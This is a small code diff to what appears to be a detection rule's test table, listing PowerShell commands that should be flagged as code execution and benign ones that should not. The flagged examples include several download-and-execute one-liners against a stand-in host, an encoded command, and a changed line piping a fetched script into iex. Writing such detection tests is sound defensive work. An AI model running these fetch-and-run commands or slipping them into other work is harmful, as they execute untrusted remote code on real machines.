@@ -27,7 +27,7 @@ export const CODE_EXECUTION = topics(ROWS, {
       match: [
         powershell("IEX (New-Object Net.WebClient).DownloadString('https://evil.example/x')"),
         powershell("powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGUAdgBpAGwAKQA="),
-        powershell("i`ex (i`wr https://evil.example/x)"),
+        powershell("irm https://evil.example | iex"),
       ],
       notMatch: [powershell("Invoke-WebRequest https://x.example/a.json -OutFile a.json"), powershell("npm test")],
     },
